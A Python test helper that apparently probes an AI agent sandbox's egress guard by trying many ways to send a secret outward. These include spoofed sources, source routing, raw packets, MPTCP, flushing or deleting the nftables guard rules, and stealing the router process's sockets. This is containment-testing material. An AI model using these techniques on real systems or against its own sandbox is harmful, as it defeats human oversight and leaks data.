"""Ways in which an agent might try to get something out: `hostile.py NAME JSON`.

Each does what it can and prints what became of it; whether anything got out, the other end of the
wire tells. The object has the addresses of both ends; see `place` in test_hostile.py.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from typing import Any

SECRET = b"the-secret-of-the-agent"
IP_FREEBIND, IP_TRANSPARENT, IP_OPTIONS = 15, 19, 4
IPV6_RTHDR, IPV6_TRANSPARENT = 57, 75
SO_MARK, SO_BINDTODEVICE = 36, 25
MSG_FASTOPEN = 0x20000000
IPPROTO_MPTCP, IPPROTO_UDPLITE, IPPROTO_DCCP = 262, 136, 33
AF_SMC, AF_RXRPC, AF_RDS, AF_TIPC, AF_VSOCK, AF_KCM = 43, 33, 21, 30, 40, 41
CLONE_NEWUSER = 0x10000000
PIDFD_GETFD = 438

place: dict[str, Any] = {}
tricks: dict[str, Callable[[], object]] = {}
libc = ctypes.CDLL(None, use_errno=True)


def trick(function: Callable[[], object]) -> Callable[[], object]:
    tricks[function.__name__] = function
    return function


def said(function: Callable[..., object], *arguments: object) -> str:
    """What became of a call: "done", or the name of its error."""
    try:
        function(*arguments)
    except TimeoutError:
        return "silence"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "done"


def family_of(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def both() -> Iterator[str]:
    yield place["world"]
    yield place["world6"]


def udp(family: int, protocol: int = 0) -> socket.socket:
    sock = socket.socket(family, socket.SOCK_DGRAM, protocol)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.settimeout(1)
    return sock


def send(to: str, port: int = 7001, *, device: str = "") -> str:
    with udp(family_of(to)) as sock:
        if device:
            sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
        return said(sock.sendto, SECRET, socket.getaddrinfo(to, port)[0][4])


def connect(to: str, port: int = 7000, protocol: int = 0, *, device: str = "") -> str:
    with socket.socket(family_of(to), socket.SOCK_STREAM, protocol) as sock:
        sock.settimeout(2)
        if device:
            sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
        return said(sock.connect, socket.getaddrinfo(to, port)[0][4])


# --- straight away ------------------------------------------------------------------------------


@trick
def straight() -> object:
    ways = [*both(), f"::ffff:{place['world']}"]
    return [connect(to) for to in ways] + [send(to) for to in ways]


@trick
def link_local() -> object:
    to = f"{place['world_link']}%eth0"
    return [connect(to), send(to)]


@trick
def to_everybody() -> object:
    multicast = [send(to) for to in ("224.0.0.1", "239.1.2.3", "ff02::1%eth0", "ff02::7365%eth0")]
    return multicast + [send(to) for to in ("255.255.255.255", "10.77.0.255")]


@trick
def in_pieces() -> object:
    answers = []
    for to in both():
        with udp(family_of(to)) as sock:
            answers.append(said(sock.sendto, SECRET * 1000, (to, 7001)))
    return answers


@trick
def bound_to_a_device() -> object:
    return [
        act(to, device=device)
        for device in ("eth0", "lo")
        for to in both()
        for act in (connect, send)
    ]


@trick
def own_address_by_the_wire() -> object:
    """Out of eth0 and back in, or to whoever answers there."""
    return [send(to, device="eth0") for to in (place["pod"], place["pod6"], "127.0.0.1", "::1")]


@trick
def with_the_first_packet() -> object:
    answers = []
    for to in both():
        with socket.socket(family_of(to), socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            answers.append(said(sock.sendto, SECRET, MSG_FASTOPEN, (to, 7000)))
    return answers


# --- other protocols, and sockets that the kernel opens ------------------------------------------


@trick
def multipath() -> object:
    """Its connections are sockets of the kernel's, which no process owns."""
    return [connect(to, protocol=IPPROTO_MPTCP) for to in both()]


@trick
def multipath_to_the_admin_port() -> object:
    ways = ("127.0.0.1", "::1", place["pod"], place["pod6"])
    return [connect(to, 9090, IPPROTO_MPTCP) for to in ways]


@trick
def pings() -> object:
    answers = []
    for to in both():
        six = family_of(to) == socket.AF_INET6
        protocol = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
        echo = (b"\x80" if six else b"\x08") + b"\0" * 7 + SECRET
        with contextlib.closing(udp(family_of(to), protocol)) as sock:
            answers.append(said(sock.sendto, echo, (to, 0)))
    return answers


@trick
def groups() -> object:
    """Who joins a group tells the network which one, and chooses its address."""
    answers = []
    with udp(socket.AF_INET) as sock:
        group = socket.inet_aton("239.115.101.99") + socket.inet_aton(place["pod"])
        answers.append(said(sock.setsockopt, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group))
    with udp(socket.AF_INET6) as sock:
        group = socket.inet_pton(socket.AF_INET6, "ff05::7365:6372:6574")
        group += struct.pack("@I", socket.if_nametoindex("eth0"))
        answers.append(said(sock.setsockopt, socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group))
    return answers


@trick
def other_protocols() -> object:
    """What the kernel has; each is an error, or a socket that gets nowhere."""
    answers = {}
    for name, family, kind, protocol in (
        ("udplite", socket.AF_INET, socket.SOCK_DGRAM, IPPROTO_UDPLITE),
        ("sctp", socket.AF_INET, socket.SOCK_SEQPACKET, socket.IPPROTO_SCTP),
        ("sctp6", socket.AF_INET6, socket.SOCK_SEQPACKET, socket.IPPROTO_SCTP),
        ("dccp", socket.AF_INET, 6, IPPROTO_DCCP),
        ("smc", AF_SMC, socket.SOCK_STREAM, 0),
        ("rxrpc", AF_RXRPC, socket.SOCK_DGRAM, socket.AF_INET),
        ("rds", AF_RDS, socket.SOCK_SEQPACKET, 0),
        ("kcm", AF_KCM, socket.SOCK_DGRAM, 0),
        ("tipc", AF_TIPC, socket.SOCK_RDM, 0),
        ("vsock", AF_VSOCK, socket.SOCK_STREAM, 0),
    ):
        try:
            with socket.socket(family, kind, protocol) as sock:
                sock.settimeout(1)
                if family in (socket.AF_INET, socket.AF_INET6, AF_SMC):
                    to = place["world6"] if family == socket.AF_INET6 else place["world"]
                    answers[name] = said(sock.connect, (to, 7000)) + " " + said(sock.send, SECRET)
                else:
                    answers[name] = "a socket"
        except OSError as error:
            answers[name] = errno.errorcode.get(error.errno or 0, str(error))
    return answers


# --- other sources, other routes -----------------------------------------------------------------


def spoofed(to: str, port: int, protocol: int = 0) -> str:
    kind = socket.SOCK_STREAM if protocol in (socket.IPPROTO_TCP, IPPROTO_MPTCP) else None
    with socket.socket(socket.AF_INET6, kind or socket.SOCK_DGRAM, protocol) as sock:
        sock.settimeout(0.3)
        sock.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        sock.bind((place["elsewhere6"], 443))
        return said(sock.connect, (to, port)) + " " + said(sock.send, SECRET)


@trick
def answers_to_a_made_up_source() -> object:
    """The kernel or the router would answer somebody outside, and repeat what it was sent."""
    inside = (place["pod6"], "::1")
    closed = [spoofed(to, 7999) for to in inside]
    router = [
        spoofed(to, port, protocol)
        for to in inside
        for port in (9090, 9191)
        for protocol in (socket.IPPROTO_TCP, IPPROTO_MPTCP)
    ]
    return closed + router + [spoofed(place["world6"], 7001)]


@trick
def two_sockets_and_a_made_up_source() -> object:
    """One asks in the name of somebody outside, the other answers."""
    with udp(socket.AF_INET6) as answering:
        answering.bind((place["pod6"], 7500))
        asked = spoofed(place["pod6"], 7500)
        sent = said(answering.sendto, SECRET, (place["elsewhere6"], 443))
    return [asked, sent]


@trick
def somebody_elses_flow() -> object:
    """The port from which the router has asked a DNS server a moment ago."""
    answers = []
    for to in both():
        with udp(family_of(to)) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind(("::" if ":" in to else "0.0.0.0", place["router_port"]))
            answers.append(said(sock.sendto, SECRET, (to, 53)))
    return answers


@trick
def source_routes() -> object:
    """The first stop is within the pod, or a DNS server; from there it would be sent on."""
    answers = []
    for first in ("127.0.0.1", place["pod"], place["dns"]):
        for number in (131, 137):  # loose, strict: RFC 791, section 3.1
            # Filled up to whole words by an option that does nothing.
            route = bytes([1, number, 7, 4]) + socket.inet_aton(first)
            with udp(socket.AF_INET) as sock:
                option = said(sock.setsockopt, socket.IPPROTO_IP, IP_OPTIONS, route)
                answers.append(f"{option} {said(sock.sendto, SECRET, (place['world'], 53))}")
    for first in (place["pod6"], "::1", place["dns6"]):
        middle = socket.inet_pton(socket.AF_INET6, first)
        last = b"\0" * 16  # the kernel fills in where the packet shall end
        headers = [
            bytes([0, 2, 2, 1]) + b"\0" * 4 + middle,  # RFC 6275, section 6.4
            bytes([0, 4, 4, 1, 1, 0, 0, 0]) + last + middle,  # RFC 8754, section 2
        ]
        for header in headers:
            with udp(socket.AF_INET6) as sock:
                option = said(sock.setsockopt, socket.IPPROTO_IPV6, IPV6_RTHDR, header)
                answers.append(f"{option} {said(sock.sendto, SECRET, (place['world6'], 53))}")
    return answers


# --- what takes a capability ---------------------------------------------------------------------


def raw_sockets() -> list[str]:
    return [
        said(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        said(socket.socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
        said(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
        said(socket.socket, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)),
    ]


@trick
def capabilities() -> object:
    answers = {"raw": raw_sockets()}
    with udp(socket.AF_INET) as four, udp(socket.AF_INET6) as six:
        answers["mark"] = [said(four.setsockopt, socket.SOL_SOCKET, SO_MARK, 1)]
        answers["transparent"] = [
            said(four.setsockopt, socket.IPPROTO_IP, IP_TRANSPARENT, 1),
            said(six.setsockopt, socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1),
        ]
    answers["user"] = [said(os.setuid, place["router_uid"]), said(os.setuid, 0)]
    # It answers with the old number and changes nothing.
    libc.setfsuid(place["router_uid"])
    answers["fsuid"] = [str(libc.setfsuid(-1) == os.getuid())]
    for name, command in (
        ("rules", ["nft", "delete", "table", "inet", "kars_guard"]),
        ("flush", ["nft", "flush", "ruleset"]),
        ("route", ["ip", "route", "add", "local", "10.78.0.0/24", "dev", "lo"]),
    ):
        done = subprocess.run(command, capture_output=True, check=False)
        answers[name] = ["failed" if done.returncode else "done"]
    return answers


@trick
def raw_packets() -> object:
    """With the capability: whole IPv4 packets, from another source too; discovery; ICMP."""
    answers = []
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for source in (place["pod"], "10.99.0.9"):
            for protocol in (socket.IPPROTO_UDP, socket.IPPROTO_ICMP, 99):
                head = struct.pack("!BBHHHBBH", 0x45, 0, 0, 1, 0, 64, protocol, 0)
                ends = socket.inet_aton(source) + socket.inet_aton(place["world"])
                answers.append(said(sock.sendto, head + ends + SECRET, (place["world"], 0)))
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        for kind in (1, 128, 129, 133, 135, 136, 143):
            message = bytes([kind]) + b"\0" * 7 + SECRET
            answers.append(said(sock.sendto, message, (place["world6"], 0)))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        for kind in (0, 3, 8):
            message = bytes([kind]) + b"\0" * 7 + SECRET
            answers.append(said(sock.sendto, message, (place["world"], 0)))
    return answers


@trick
def root_in_a_namespace_of_users() -> object:
    """There it may do anything, but not to a network that is not its own."""
    made = said(lambda: unshare(CLONE_NEWUSER))
    return [made, raw_sockets(), [connect(to) for to in both()], [send(to) for to in both()]]


def unshare(flags: int) -> None:
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), "unshare")


@trick
def sockets_of_the_router() -> object:
    """Taking one over, or talking to it past the network."""
    pid = place["router_pid"]
    pidfd = os.pidfd_open(pid)

    def take(number: int) -> None:
        if libc.syscall(PIDFD_GETFD, pidfd, number, 0) < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")

    return {
        "taken": sorted({said(take, number) for number in range(3, 30)}),
        "listed": said(os.listdir, f"/proc/{pid}/fd"),
        "memory": said(open, f"/proc/{pid}/mem", "rb"),
    }


# --- connections from outside --------------------------------------------------------------------


@trick
def waiting_to_be_called() -> object:
    """Listens in both families and as multipath; the test calls from outside and then says so."""
    listeners = []
    for number, protocol in enumerate((socket.IPPROTO_TCP, IPPROTO_MPTCP)):
        sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, protocol)
        sock.bind(("::", 7600 + number))
        sock.listen()
        sock.settimeout(30)
        listeners.append(sock)

    def greet(sock: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                sock.accept()[0].sendall(SECRET)

    for sock in listeners:
        threading.Thread(target=greet, args=(sock,), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
    return None


@trick
def before_the_rules() -> object:
    """Connections from before; goes on with them when the test has put rules in force."""
    connections = [socket.create_connection((to, 7000), timeout=5) for to in both()]
    print("ready", flush=True)
    sys.stdin.readline()
    answers = []
    for sock in connections:
        sock.settimeout(2)
        answers.append([said(sock.sendall, SECRET), said(sock.recv, 100), said(sock.recv, 100)])
    return answers


place.update(json.loads(sys.argv[2]))
print(json.dumps(tricks[sys.argv[1]]()), flush=True)
